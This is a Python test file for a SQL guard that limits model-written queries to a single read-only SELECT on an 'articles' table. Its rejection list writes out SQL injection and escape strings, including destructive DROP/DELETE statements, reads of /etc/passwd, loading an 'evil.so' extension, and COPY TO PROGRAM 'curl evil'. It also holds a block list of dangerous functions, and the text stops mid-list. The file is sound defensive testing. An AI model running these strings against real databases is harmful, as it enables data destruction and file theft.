"""SQL guard: accepted reads, rejected writes and escapes, LIMIT handling, fence stripping, fuzzing.

Whatever the guard lets through is checked here independently of its code (one SELECT on the table, a
LIMIT, only functions from this file's own list) and run on a WRITABLE SQLite file whose hash must not
change: the guard alone, without the read-only connection the product adds, keeps the table intact.
"""

from __future__ import annotations

import contextlib
import hashlib
import logging
import os
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlglot
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlglot import exp
from sqlglot.tokens import TokenType

from rag.answer.sql_guard import GuardedSQL, allowed_functions, guard_sql, strip_sql_fences
from rag.data.source import SQLITE_MAX_VALUE_BYTES, TableSource
from rag.errors import QueryFailed, UnsafeSQL

TABLE = "articles"
COLUMNS = ("url", "title", "authors", "published_date", "article_category", "word_count", "full_content")
WRITE_NODES: tuple[type[exp.Expr], ...] = (
    exp.Insert, exp.Update, exp.Delete, exp.Merge, exp.Drop, exp.Create, exp.Alter, exp.TruncateTable,
    exp.Command, exp.Into, exp.Pragma, exp.Attach, exp.Detach, exp.Transaction, exp.Commit,
    exp.Rollback, exp.Set, exp.Copy, exp.Grant, exp.Use, exp.Values, exp.Returning,
)  # fmt: skip
# Functions the guard may let through, by sqlglot class, or by name for those sqlglot does not model: written
# here, not taken from the guard, so a guard that starts accepting something else fails these tests.
SAFE_FUNCTION_CLASSES: tuple[type[exp.Expr], ...] = (
    exp.Count, exp.Sum, exp.Avg, exp.Min, exp.Max, exp.Greatest, exp.Least, exp.GroupConcat, exp.RowNumber,
    exp.Rank, exp.DenseRank, exp.PercentRank, exp.CumeDist, exp.Ntile, exp.Lag, exp.Lead, exp.FirstValue,
    exp.LastValue, exp.NthValue, exp.Lower, exp.Upper, exp.Length, exp.Trim, exp.Replace, exp.Substring,
    exp.StrPosition, exp.Abs, exp.Round, exp.Ceil, exp.Floor, exp.Coalesce, exp.Nullif, exp.Case, exp.If,
    exp.Cast, exp.And, exp.Or, exp.Exists, exp.Collate, exp.TimeToStr, exp.TsOrDsToTimestamp, exp.Date,
    exp.DateTrunc, exp.TimestampTrunc, exp.Extract, exp.CurrentDate, exp.CurrentTimestamp, exp.Left, exp.Right,
    exp.SplitPart, exp.Initcap, exp.Concat, exp.ConcatWs, exp.Median, exp.PercentileCont, exp.Typeof,
    exp.UnixToTime,  # PostgreSQL to_timestamp(epoch)
)  # fmt: skip
SAFE_ANONYMOUS = frozenset({"strftime", "date", "time", "datetime", "julianday", "unixepoch", "total",
                            "date_part", "age", "to_char", "to_date"})  # fmt: skip
# Calls that must never be in a statement the guard returns: they build huge values from a small query, or
# read the server, the session or files.
NEVER_CALLED = frozenset({
    "printf", "format", "repeat", "lpad", "rpad", "zeroblob", "randomblob", "version", "current_user",
    "session_user", "current_database", "current_schema", "current_setting", "set_config", "sqlite_version",
    "load_extension", "readfile", "writefile", "pg_sleep", "pg_read_file", "lo_import", "dblink_exec",
})  # fmt: skip
_STRING_TOKENS = {TokenType.STRING, TokenType.NATIONAL_STRING, TokenType.RAW_STRING}


@pytest.fixture(autouse=True, scope="module")
def _quiet_sqlglot() -> Iterator[None]:
    """sqlglot logs a warning for every statement it falls back to parsing as a Command."""
    logger = logging.getLogger("sqlglot")
    level = logger.level
    logger.setLevel(logging.ERROR)
    yield
    logger.setLevel(level)


def guard(sql: str, dialect: str = "sqlite", max_rows: int = 1000) -> GuardedSQL:
    return guard_sql(sql, table=TABLE, columns=COLUMNS, dialect=dialect, max_rows=max_rows)


def assert_safe_output(sql: str, dialect: str, max_rows: int = 1000) -> None:
    """The invariant for anything the guard lets through, checked independently of its code."""
    statements = sqlglot.parse(sql, dialect=dialect)
    assert len(statements) == 1, sql
    root = statements[0]
    assert isinstance(root, (exp.Select, exp.SetOperation)), sql
    for query in root.find_all(exp.Query):
        assert isinstance(query, (exp.Select, exp.SetOperation, exp.Subquery)), sql
    assert not list(root.find_all(*WRITE_NODES)), sql
    cte_names = {cte.alias_or_name.lower() for cte in root.find_all(exp.CTE)}
    for table in root.find_all(exp.Table):
        assert isinstance(table.this, exp.Identifier), sql
        assert not table.args.get("db") and not table.args.get("catalog"), sql
        assert table.name.lower() in {TABLE} | cte_names, sql
    limit = root.args.get("limit")
    assert isinstance(limit, exp.Limit) and limit.expression.is_int, sql
    assert int(limit.expression.name) <= max_rows, sql
    assert_only_safe_functions(root, sql, dialect)


def assert_only_safe_functions(root: exp.Expr, sql: str, dialect: str) -> None:
    """Every function is on this file's list, and no NEVER_CALLED name is called (outside string literals)."""
    for node in root.find_all(exp.Func):
        if isinstance(node, (exp.Anonymous, exp.AnonymousAggFunc)):
            assert node.name.lower() in SAFE_ANONYMOUS, (node.name, sql)
        else:
            assert isinstance(node, SAFE_FUNCTION_CLASSES), (type(node).__name__, sql)
    words = [token.text.lower() for token in sqlglot.tokenize(sql, dialect=dialect)
             if token.token_type not in _STRING_TOKENS]
    # a name right after AS is an alias (`FROM x AS load_extension(a)` renames columns), not a call
    assert not {word for before, word in zip(["", *words], words, strict=False) if before != "as"} & NEVER_CALLED, sql


def make_articles_db(path: Path) -> Path:
    """A five-row `articles` table like the product's sample data."""
    rows = [
        (f"https://news.example/{i}", title, author, f"2023-0{i}-1{i}", category, 100 * i, f"Body {i}.")
        for i, (title, author, category) in enumerate(
            [("Rates rise", "Ann Lee", "economy"), ("Café openings", "Bo Chen", "food"),
             ("AI chips", "Cy Diaz", "tech"), ("Cup final", "Di Eze", "sport"),
             ("Budget vote", "Ed Fox", "politics")],
            start=1,
        )
    ]  # fmt: skip
    with sqlite3.connect(path) as conn:
        conn.execute(
            "CREATE TABLE articles (url TEXT PRIMARY KEY, title TEXT, authors TEXT, published_date TEXT, "
            "article_category TEXT, word_count INTEGER, full_content TEXT)"
        )
        conn.executemany("INSERT INTO articles VALUES (?, ?, ?, ?, ?, ?, ?)", rows)
    conn.close()
    return path


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def read_only(path: Path) -> sqlite3.Connection:
    return sqlite3.connect(f"file:{path}?mode=ro", uri=True)


@pytest.fixture(scope="module")
def shared_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_articles_db(tmp_path_factory.mktemp("guard") / "articles.db")


# --------------------------------------------------------------------------- accepted

ACCEPTED = [
    "SELECT * FROM articles",
    "select title, url from ARTICLES where WORD_COUNT > 200",
    'SELECT "title" FROM "articles"',
    "SELECT article_category, COUNT(*) AS n FROM articles GROUP BY article_category ORDER BY n DESC",
    "SELECT strftime('%Y', published_date) AS year, COUNT(*) FROM articles GROUP BY year ORDER BY year",
    "SELECT ROUND(AVG(word_count), 1) AS avg_words, MAX(word_count), MIN(published_date) FROM articles",
    "WITH recent AS (SELECT * FROM articles WHERE published_date >= '2023-03-01') "
    "SELECT title FROM recent",
    "WITH a AS (SELECT url, word_count FROM articles), b AS (SELECT url FROM a WHERE word_count > 1) "
    "SELECT COUNT(*) FROM b",
    "WITH x(link, words) AS (SELECT url, word_count FROM articles) SELECT link FROM x ORDER BY words",
    "SELECT title FROM articles WHERE word_count > (SELECT AVG(word_count) FROM articles)",
    "SELECT title FROM articles WHERE url IN (SELECT url FROM articles WHERE authors LIKE '%Lee%')",
    "SELECT title FROM articles UNION SELECT authors FROM articles",
    "SELECT title FROM articles EXCEPT SELECT title FROM articles WHERE word_count < 300",
    "SELECT title, word_count AS words FROM articles ORDER BY words DESC",
    "SELECT a.title FROM articles AS a JOIN articles AS b ON a.url = b.url",
    "SELECT * FROM (SELECT title, word_count FROM articles) AS sub WHERE sub.word_count > 150",
    "SELECT CASE WHEN word_count > 250 THEN 'long' ELSE 'short' END AS size, COUNT(DISTINCT authors) "
    "FROM articles GROUP BY size HAVING COUNT(*) > 0",
    "SELECT title FROM articles WHERE title LIKE '%Café%'",
    "SELECT lower(title), length(full_content), substr(title, 1, 3) || '...', coalesce(authors, '?') "
    "FROM articles",
    "SELECT title, ROW_NUMBER() OVER (PARTITION BY article_category ORDER BY word_count DESC) AS rank_in_cat "
    "FROM articles",
    "SELECT date(published_date, 'start of month') AS month, group_concat(title, '; ') FROM articles "
    "GROUP BY month",
    "SELECT title FROM articles WHERE published_date BETWEEN '2023-01-01' AND '2023-12-31' AND authors "
    "IS NOT NULL ORDER BY title COLLATE NOCASE",
    "SELECT COUNT(*) FROM articles WHERE EXISTS (SELECT 1 FROM articles AS b WHERE b.url = articles.url)",
    "SELECT title FROM articles -- a trailing comment",
    "(SELECT title FROM articles)",
    # what a language model writes for this table: dates, text, numbers and windows
    "SELECT strftime('%Y-%m', published_date) AS month, COUNT(*) AS n FROM articles GROUP BY month",
    "SELECT title FROM articles WHERE published_date >= date('now', '-30 days') ORDER BY published_date DESC",
    "SELECT title, julianday('2023-12-31') - julianday(published_date) AS age_days FROM articles",
    "SELECT CAST(strftime('%Y', published_date) AS INTEGER) AS year, TOTAL(word_count) FROM articles GROUP BY 1",
    "SELECT IIF(word_count > 250, 'long', 'short') AS size, IFNULL(authors, 'unknown') FROM articles",
    "SELECT title FROM articles WHERE INSTR(LOWER(authors), 'lee') > 0 OR UPPER(title) LIKE '%AI%'",
    "SELECT ROUND(AVG(LENGTH(full_content)), 1) AS avg_chars, COUNT(DISTINCT article_category) FROM articles",
    "SELECT TRIM(REPLACE(title, 'a', 'o')), ABS(word_count - 300), MAX(word_count, 200) FROM articles",
    "SELECT title, word_count, LAG(word_count) OVER (ORDER BY published_date) AS previous FROM articles",
    "SELECT article_category, SUM(word_count) * 1.0 / (SELECT SUM(word_count) FROM articles) AS share "
    "FROM articles GROUP BY article_category",
    "SELECT title FROM articles WHERE published_date LIKE '2023-0%' AND article_category IN ('tech', 'food')",
]


@pytest.mark.parametrize("sql", ACCEPTED)
def test_accepted_queries_pass_and_run_on_sqlite(sql: str, shared_db: Path) -> None:
    guarded = guard(sql)
    assert guarded.original == sql
    assert_safe_output(guarded.sql, "sqlite")
    with read_only(shared_db) as conn:
        rows = conn.execute(guarded.sql).fetchall()
    assert len(rows) <= guarded.limit


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT date_trunc('month', published_date) AS m, count(*) FROM articles GROUP BY m ORDER BY m",
        "SELECT EXTRACT(YEAR FROM published_date) AS y, string_agg(title, ', ') FROM articles GROUP BY y",
        "SELECT title FROM articles WHERE title ILIKE '%ai%' ORDER BY published_date DESC NULLS LAST",
        "SELECT title::text FROM articles WHERE published_date > NOW() - INTERVAL '30 days'",
        "SELECT count(*) FILTER (WHERE word_count > 5) FROM articles",
        "(SELECT title FROM articles ORDER BY word_count LIMIT 2) UNION (SELECT url FROM articles)",
        "SELECT to_char(published_date::timestamp, 'YYYY-MM') AS m, left(title, 20), split_part(authors, ';', 1) "
        "FROM articles",
        "SELECT initcap(article_category), greatest(word_count, 100), percentile_cont(0.5) WITHIN GROUP "
        "(ORDER BY word_count) FROM articles GROUP BY article_category",
        "SELECT date_part('year', published_date::date) AS y, age(published_date::date) FROM articles",
        "SELECT title FROM articles WHERE strpos(lower(title), 'ai') > 0 AND published_date::date > current_date - 30",
        # an epoch-seconds date read in UTC (rag/data/epoch.py)
        "SELECT to_char(to_timestamp(word_count) AT TIME ZONE 'UTC', 'YYYY-MM-DD HH24:MI:SS') AS d FROM articles",
    ],
)
def test_accepted_postgres_queries(sql: str) -> None:
    assert_safe_output(guard(sql, dialect="postgres").sql, "postgres")


def test_sqlalchemy_postgresql_dialect_name_is_accepted() -> None:
    guarded = guard("SELECT title FROM articles", dialect="postgresql")
    assert guarded.sql == "SELECT title FROM articles LIMIT 1000"


def test_sql_is_regenerated_without_comments() -> None:
    guarded = guard("select  title /* why not */ from articles where word_count>10")
    assert guarded.sql == "SELECT title FROM articles WHERE word_count > 10 LIMIT 1000"


def test_non_ascii_inside_string_literal_is_kept() -> None:
    assert "'Café ☕'" in guard("SELECT url FROM articles WHERE title = 'Café ☕'").sql


# --------------------------------------------------------------------------- LIMIT


def test_limit_added_when_absent() -> None:
    guarded = guard("SELECT title FROM articles", max_rows=100)
    assert guarded.sql.endswith("LIMIT 100")
    assert (guarded.limit, guarded.notes) == (100, ("LIMIT 100 added",))


def test_limit_within_bounds_is_kept() -> None:
    guarded = guard("SELECT title FROM articles LIMIT 10 OFFSET 20")
    assert guarded.sql == "SELECT title FROM articles LIMIT 10 OFFSET 20"
    assert (guarded.limit, guarded.notes) == (10, ())


def test_limit_above_max_is_capped() -> None:
    guarded = guard("SELECT title FROM articles LIMIT 5000")
    assert guarded.sql == "SELECT title FROM articles LIMIT 1000"
    assert (guarded.limit, guarded.notes) == (1000, ("LIMIT 5000 capped to 1000",))


@pytest.mark.parametrize(
    "limit", ["(SELECT 5)", "?", "-1", "10 + 5", "'7'", "1.5", "(SELECT COUNT(*) FROM sqlite_master)"]
)
def test_limit_that_is_not_an_integer_literal_is_replaced(limit: str) -> None:
    guarded = guard(f"SELECT title FROM articles LIMIT {limit}")
    assert guarded.sql == "SELECT title FROM articles LIMIT 1000"
    assert guarded.limit == 1000
    assert guarded.notes == ("LIMIT that is not a plain number replaced by 1000",)


def test_limit_applies_to_the_whole_union() -> None:
    guarded = guard("SELECT title FROM articles UNION ALL SELECT url FROM articles LIMIT 5000", max_rows=50)
    root = sqlglot.parse_one(guarded.sql, dialect="sqlite")
    assert isinstance(root, exp.Union)
    assert root.args["limit"].expression.name == "50"
    assert root.this.args.get("limit") is None and root.expression.args.get("limit") is None
    assert guarded.notes == ("LIMIT 5000 capped to 50",)


def test_postgres_fetch_first_becomes_limit() -> None:
    guarded = guard("SELECT title FROM articles OFFSET 5 ROWS FETCH FIRST 20 ROWS ONLY", dialect="postgres")
    assert guarded.sql == "SELECT title FROM articles LIMIT 20 OFFSET 5"
    assert guarded.notes == ()


# --------------------------------------------------------------------------- rejected

# (statement, dialect, words the message must contain)
ATTACKS: list[tuple[str, str, str]] = [
    ("DROP TABLE articles", "sqlite", "found DROP"),
    ("DELETE FROM articles", "sqlite", "found DELETE"),
    ("UPDATE articles SET title = 'x'", "sqlite", "found UPDATE"),
    ("INSERT INTO articles (url) VALUES ('x')", "sqlite", "found INSERT"),
    ("REPLACE INTO articles (url) VALUES ('x')", "sqlite", "found REPLACE"),
    ("CREATE TABLE stolen AS SELECT * FROM articles", "sqlite", "found CREATE"),
    ("ALTER TABLE articles ADD COLUMN x INTEGER", "sqlite", "found ALTER"),
    ("SELECT 1; DROP TABLE articles", "sqlite", "2 statements"),
    ("SELECT * FROM articles; DELETE FROM articles;", "sqlite", "2 statements"),
    ("WITH x AS (DELETE FROM articles RETURNING *) SELECT * FROM x", "sqlite", "found DELETE"),
    ("WITH x AS (INSERT INTO articles (url) VALUES ('x') RETURNING url) SELECT url FROM x", "postgres",
     "found INSERT"),
    ("SELECT * INTO stolen FROM articles", "sqlite", "SELECT ... INTO"),
    ("SELECT * INTO TEMP stolen FROM articles", "postgres", "SELECT ... INTO"),
    ("PRAGMA table_info(articles)", "sqlite", "found PRAGMA"),
    ("PRAGMA writable_schema = 1", "sqlite", "found PRAGMA"),
    ("ATTACH DATABASE 'evil.db' AS evil", "sqlite", "found ATTACH"),
    ("DETACH DATABASE main", "sqlite", "found DETACH"),
    ("VACUUM INTO 'stolen.db'", "sqlite", "found VACUUM"),
    ("BEGIN", "sqlite", "found BEGIN"),
    ("REINDEX articles", "sqlite", "found REINDEX"),
    ("SELECT load_extension('evil.so')", "sqlite", "Function 'load_extension'"),
    ("SELECT title FROM articles WHERE readfile('/etc/passwd') IS NOT NULL", "sqlite", "Function 'readfile'"),
    ("SELECT writefile('evil.txt', title) FROM articles", "sqlite", "Function 'writefile'"),
    ("SELECT sqlite_version()", "sqlite", "Function 'sqlite_version'"),
    ("SELECT randomblob(1000000000)", "sqlite", "Function 'randomblob'"),
    # functions that build a huge value from a tiny query, or read the server: not on the allow list
    ("SELECT printf('%.*c', 1000000000, 'x')", "sqlite", "Function 'printf'"),
    ("SELECT title FROM articles WHERE printf('%.*c', 1000000000, 'x') <> ''", "sqlite", "Function 'printf'"),
    ("SELECT format('%s', title) FROM articles", "sqlite", "Function 'format'"),
    ("SELECT zeroblob(1000000000)", "sqlite", "Function 'zeroblob'"),
    ("SELECT hex(zeroblob(1000000))", "sqlite", "Function 'hex'"),
    ("SELECT quote(title), char(65) FROM articles", "sqlite", "Function 'quote'"),
    ("SELECT json_extract(title, '$.a') FROM articles", "sqlite", "not in the list of allowed functions"),
    ("SELECT repeat('x', 1000000000)", "postgres", "Function 'repeat'"),
    ("SELECT lpad('x', 1000000000)", "postgres", "Function 'lpad'"),
    ("SELECT rpad(title, 1000000000, 'x') FROM articles", "postgres", "Function 'rpad'"),
    ("SELECT format('%1$s', title) FROM articles", "postgres", "Function 'format'"),
    ("SELECT version()", "postgres", "Function 'version'"),
    ("SELECT current_user", "postgres", "Function 'CURRENT_USER'"),
    ("SELECT session_user", "postgres", "Function 'SESSION_USER'"),
    ("SELECT current_database()", "postgres", "Function 'current_database'"),
    ("SELECT current_schema()", "postgres", "Function 'CURRENT_SCHEMA'"),
    ("SELECT inet_server_addr()", "postgres", "Function 'inet_server_addr'"),
    ("SELECT current_setting('data_directory')", "postgres", "Function 'current_setting'"),
    ("SELECT array_agg(title) FROM articles", "postgres", "Function 'array_agg'"),
    ("SELECT regexp_replace(title, '(a+)+$', 'x') FROM articles", "postgres", "Function 'regexp_replace'"),
    ("SELECT title FROM articles WHERE title ~ '(a+)+$'", "postgres", "Function 'REGEXP_LIKE'"),
    ("SELECT generate_series(1, 1000000000)", "postgres", "Function 'generate_series'"),
    ("SELECT title::regclass FROM articles", "postgres", "Type 'REGCLASS'"),
    ("SELECT CAST(title AS xml) FROM articles", "postgres", "Type 'XML'"),
    ("SELECT INITCAP(title) FROM articles", "sqlite", "Function 'initcap'"),  # a postgres function only
    ("SELECT * FROM sqlite_master", "sqlite", "System table 'sqlite_master'"),
    ("SELECT sql FROM sqlite_schema", "sqlite", "sqlite_schema"),
    ("SELECT * FROM articles NATURAL JOIN sqlite_temp_master", "sqlite", "sqlite_temp_master"),
    ('SELECT * FROM "SQLITE_MASTER"', "sqlite", "SQLITE_MASTER"),
    ("SELECT * FROM pragma_table_info('articles')", "sqlite", "Table-valued function 'pragma_table_info'"),
    ("SELECT * FROM generate_series(1, 10)", "sqlite", "Table-valued function"),
    ("SELECT * FROM users", "sqlite", "Table 'users' is not allowed"),
    ("SELECT url FROM articles UNION SELECT password FROM users", "sqlite", "users"),
    ("SELECT * FROM main.articles", "sqlite", "Schema-qualified table 'main.articles'"),
    ("SELECT * FROM other.users", "sqlite", "Schema-qualified table 'other.users'"),
    ("SELECT * FROM secrets WHERE 1 IN (WITH secrets AS (SELECT 1) SELECT * FROM secrets)", "sqlite",
     "Table 'secrets'"),
    ("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "postgres", "Table 'b'"),
    ("SELECT password FROM articles", "sqlite", "Unknown column 'password'"),
    ("SELECT rowid, title FROM articles", "sqlite", "Unknown column 'rowid'"),
    ("DEL/**/ETE FROM articles", "sqlite", "could not be parsed"),
    ("DROP/**/TABLE/**/articles", "sqlite", "found DROP"),
    ("dElEtE fRoM articles", "sqlite", "found DELETE"),
    ("S\u0415LECT * FROM articles", "sqlite", "non-ASCII character"),  # Cyrillic Е
    ("D\u0415LETE FROM articles", "sqlite", "non-ASCII character"),
    ("\uff24\uff25\uff2c\uff25\uff34\uff25 FROM articles", "sqlite", "non-ASCII character"),  # fullwidth
    ("SELECT title FROM articles\uff1b DROP TABLE articles", "sqlite", "non-ASCII character"),  # ；
    ("SELECT\u00a0title FROM articles", "sqlite", "non-ASCII character"),  # no-break space
    ("SELECT title FROM articles\x00; DROP TABLE articles", "sqlite", "control character U+0000"),
    ("SELECT title FROM articles WHERE title = '\x00'", "sqlite", "control character U+0000"),
    ("SELECT pg_sleep(10)", "postgres", "Function 'pg_sleep'"),
    ("SELECT pg_catalog.pg_sleep(10)", "postgres", "unsupported syntax"),
    ("SELECT pg_read_file('/etc/passwd')", "postgres", "Function 'pg_read_file'"),
    ("SELECT lo_import('/etc/passwd')", "postgres", "Function 'lo_import'"),
    ("SELECT dblink_exec('host=x', 'DROP TABLE articles')", "postgres", "Function 'dblink_exec'"),
    ("SELECT set_config('search_path', 'evil', false)", "postgres", "Function 'set_config'"),
    ("COPY articles TO '/tmp/stolen.csv'", "postgres", "found COPY"),
    ("COPY (SELECT * FROM articles) TO PROGRAM 'curl evil'", "postgres", "found COPY"),
    ("SET search_path = evil", "postgres", "found SET"),
    ("GRANT ALL ON articles TO mallory", "postgres", "found GRANT"),
    ("SELECT * FROM information_schema.tables", "postgres", "information_schema.tables"),
    ("SELECT * FROM pg_shadow", "postgres", "System table 'pg_shadow'"),
    ("SELECT * FROM articles FOR UPDATE", "postgres", "FOR UPDATE"),
    ("SELECT title FROM articles WHERE url = $1", "postgres", "parameters"),
    ("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT COUNT(*) FROM c", "sqlite",
     "Recursive"),
    ("SELECT shell('rm -rf /')", "sqlite", "not in the list of allowed functions"),
    ("", "sqlite", "empty"),
    ("   \n\t ", "sqlite", "empty"),
    ("```sql\n```", "sqlite", "empty"),
    (";", "sqlite", "empty"),
    ("SELECT FROM WHERE", "sqlite", "could not be parsed"),
    (" FROM SELECT * FROM articles", "sqlite", "one LIMIT for the whole result"),  # found by the fuzz test
    ("SELECT title FROM articles WHERE title = 'unterminated", "sqlite", "could not be parsed"),
]  # fmt: skip


@pytest.mark.parametrize(("sql", "dialect", "reason"), ATTACKS, ids=[f"{d}:{s[:40]}" for s, d, _ in ATTACKS])
def test_attacks_are_rejected_with_reason(sql: str, dialect: str, reason: str) -> None:
    with pytest.raises(UnsafeSQL) as raised:
        guard(sql, dialect=dialect)
    assert reason in str(raised.value)


def test_rejection_message_is_plain_words() -> None:
    with pytest.raises(UnsafeSQL) as raised:
        guard("DELETE FROM articles")
    assert str(raised.value) == "Only a single SELECT on table 'articles' is allowed; found DELETE."


def writable(path: Path) -> sqlite3.Connection:
    """A plain read-write connection (no mode=ro, no query_only): only the guard stands in the way."""
    conn = sqlite3.connect(path, isolation_level=None)  # autocommit: a write would land at once
    conn.setlimit(sqlite3.SQLITE_LIMIT_LENGTH, 1_000_000)
    return conn


def run_on_writable(path: Path, sql: str) -> None:
    """Runs every statement in `sql` on a writable connection; errors (sqlite lacks ILIKE) are ignored."""
    conn = writable(path)
    try:
        with contextlib.suppress(sqlite3.Error):
            conn.executescript(sql) if ";" in sql else conn.execute(sql).fetchall()
    finally:
        conn.close()


SQLITE_WRITES = [sql for sql, dialect, reason in ATTACKS
                 if dialect == "sqlite" and reason.startswith(("found", "2 statements", "SELECT ... INTO"))]


def test_attacks_would_change_the_file_unguarded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The control for the next test: on a writable connection these statements really do write."""
    monkeypatch.chdir(tmp_path)
    changed = []
    for number, sql in enumerate(SQLITE_WRITES):
        db = make_articles_db(tmp_path / f"control{number}.db")
        before = sha256(db)
        run_on_writable(db, sql)
        if sha256(db) != before:
            changed.append(sql)
    assert set(changed) >= {
        "DROP TABLE articles", "DELETE FROM articles", "UPDATE articles SET title = 'x'",
        "INSERT INTO articles (url) VALUES ('x')", "REPLACE INTO articles (url) VALUES ('x')",
        "CREATE TABLE stolen AS SELECT * FROM articles", "ALTER TABLE articles ADD COLUMN x INTEGER",
        "SELECT 1; DROP TABLE articles", "SELECT * FROM articles; DELETE FROM articles;",
        "DROP/**/TABLE/**/articles",
        "dElEtE fRoM articles",
    }, changed


def test_the_guard_alone_keeps_a_writable_database_unchanged(tmp_path: Path, monkeypatch: pytest.MonkeyPatch
                                                              ) -> None:
    monkeypatch.chdir(tmp_path)  # files an attack might create land here
    db = make_articles_db(tmp_path / "articles.db")
    before = sha256(db)
    passed = []
    for sql, dialect, _ in ATTACKS:
        try:
            guarded = guard(sql, dialect=dialect)
        except UnsafeSQL:
            continue
        passed.append(sql)
        run_on_writable(db, guarded.sql)
    assert passed == []
    for sql in ACCEPTED:  # what the guard lets through runs on the writable file and changes nothing
        run_on_writable(db, guard(sql).sql)
    assert sha256(db) == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["articles.db"]


# Names on the allow list that are sqlglot's kinds of node rather than SQLite functions, and functions of
# SQLite releases newer than the 3.40 Python 3.11 ships with (harmless where missing: "no such function").
SQLGLOT_FORMS = {"and", "or", "case", "cast", "collate", "exists", "currentdate", "currenttime", "currenttimestamp"}
NEWER_SQLITE = {"concat", "concat_ws", "timediff"}


def test_the_sqlite_allow_list_names_real_functions_and_no_dangerous_one() -> None:
    from rag.data.source import PercentileCont

    conn = sqlite3.connect(":memory:")
    conn.create_aggregate("percentile_cont", 2, PercentileCont)  # (as the app's connections do)
    try:
        available = {name for (name, *_) in conn.execute("PRAGMA function_list")}
    finally:
        conn.close()
    allowed = allowed_functions("sqlite")
    assert allowed - SQLGLOT_FORMS - NEWER_SQLITE <= available
    assert not allowed & NEVER_CALLED and not allowed & {"hex", "quote", "char", "like", "glob", "json_extract"}
    assert not allowed_functions("postgresql") & NEVER_CALLED


@pytest.mark.parametrize("sql", [
    "SELECT zeroblob(1000000000) AS big",
    "SELECT replace(printf('%.*c', 1000000, 'x'), 'x', printf('%.*c', 1000, 'y')) AS big",
    "SELECT group_concat(printf('%.*c', 1000000, 'x')) AS big FROM articles AS a, articles AS b, articles AS c",
])
def test_sqlite_connections_refuse_to_build_a_huge_value(shared_db: Path, sql: str) -> None:
    """Past the guard (run_select takes any statement), SQLITE_LIMIT_LENGTH stops the allocation at once."""
    source = TableSource(f"sqlite:///{shared_db}", TABLE)
    try:
        with source.connect() as connection:
            raw = connection.connection.dbapi_connection
            assert raw.getlimit(sqlite3.SQLITE_LIMIT_LENGTH) == SQLITE_MAX_VALUE_BYTES == 32 * 2**20
        with pytest.raises(QueryFailed, match="larger than 32 MB"):
            source.run_select(sql)
        # printf past the limit gives NULL instead of a 50 MB string (within the limit it builds the value)
        assert source.run_select("SELECT printf('%.*c', 50000000, 'x') AS big").rows == [[None]]
        assert source.run_select("SELECT length(printf('%.*c', 5000, 'x')) AS n").rows == [[5000]]
        assert source.run_select("SELECT COUNT(*) AS n FROM articles").rows == [[5]]  # the connection still works
    finally:
        source.close()


def test_bad_configuration_is_a_programming_error() -> None:
    with pytest.raises(ValueError):
        guard("SELECT title FROM articles", dialect="no-such-dialect")
    with pytest.raises(ValueError):
        guard("SELECT title FROM articles", max_rows=0)


# --------------------------------------------------------------------------- fences


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("```sql\nSELECT title FROM articles;\n```", "SELECT title FROM articles"),
        ("Here you go:\n```SQL\nSELECT 1\n```\nHope it helps", "SELECT 1"),
        ("```\nSELECT title FROM articles\n```", "SELECT title FROM articles"),
        ("SQLQuery: SELECT title FROM articles", "SELECT title FROM articles"),
        ("sql\nSELECT title FROM articles", "SELECT title FROM articles"),
        ("  SELECT title FROM articles;  ", "SELECT title FROM articles"),
        ("SELECT 1;;", "SELECT 1;"),
        ("SQLQuery: SELECT COUNT(*) FROM articles\nSQLResult: [(5,)]\nAnswer: five",
         "SELECT COUNT(*) FROM articles"),
        ("SELECT sqlite_version FROM t", "SELECT sqlite_version FROM t"),
        ("", ""),
    ],
)
def test_strip_sql_fences(text: str, expected: str) -> None:
    assert strip_sql_fences(text) == expected


def test_guard_strips_fences_but_keeps_original() -> None:
    text = "```sql\nSELECT title FROM articles;\n```"
    guarded = guard(text)
    assert (guarded.sql, guarded.original) == ("SELECT title FROM articles LIMIT 1000", text)


# --------------------------------------------------------------------------- property-based

VERBS = ["SELECT", "DELETE", "DROP", "TABLE", "INSERT", "INTO", "UPDATE", "SET", "REPLACE", "CREATE",
         "ALTER", "ADD", "TRUNCATE", "ATTACH", "DATABASE", "DETACH", "PRAGMA", "VACUUM", "COPY", "GRANT",
         "BEGIN", "COMMIT", "EXPLAIN", "REINDEX", "WITH", "RECURSIVE", "AS", "FROM", "WHERE", "UNION",
         "ALL", "VALUES", "RETURNING", "LIMIT", "OFFSET", "ORDER BY", "GROUP BY", "JOIN", "ON", "AND",
         "OR", "NOT", "IN", "EXISTS", "CASE WHEN", "THEN", "END", "FOR UPDATE", "TO PROGRAM"]
TABLES = ["articles", "ARTICLES", '"articles"', "[articles]", "sqlite_master", "sqlite_schema",
          "sqlite_temp_master", "main.articles", "temp.articles", "information_schema.tables",
          "pg_catalog.pg_user", "pg_shadow", "users", "x", "pragma_table_info('articles')",
          "generate_series(1, 3)"]
COLUMN_NAMES = [*COLUMNS, "password", "rowid", "sql", "name", "*", "COUNT(*)", "x", "a.url", "main.x.y"]
CALLS = ["load_extension('x')", "readfile('x')", "writefile('x', 'y')", "pg_sleep(1)", "sqlite_version()",
         "strftime('%Y', published_date)", "lower(title)", "randomblob(9)", "exec('x')", "edit('x')",
         "current_setting('x')", "pg_read_file('x')", "upper(url)", "max(word_count)", "?", ":p", "$1",
         "printf('%.*c', 1000000000, 'x')", "format('%s', title)", "repeat(title, 1000000)", "zeroblob(1000000000)",
         "lpad(title, 1000000000)", "rpad('x', 1000000000)", "version()", "current_user", "current_database()",
         "hex(full_content)", "quote(title)", "char(65)", "array_agg(title)", "title::regclass"]
# Expressions a reasonable query holds, most of them allowed: the material for statements that should pass.
SELECT_ITEMS = [*COLUMNS, "*", "COUNT(*)", "COUNT(DISTINCT authors)", "ROUND(AVG(word_count), 1)", "SUM(word_count)",
                "MIN(published_date)", "MAX(word_count)", "lower(title)", "upper(url)", "length(full_content)",
                "substr(title, 1, 5)", "coalesce(authors, '-')", "strftime('%Y', published_date)",
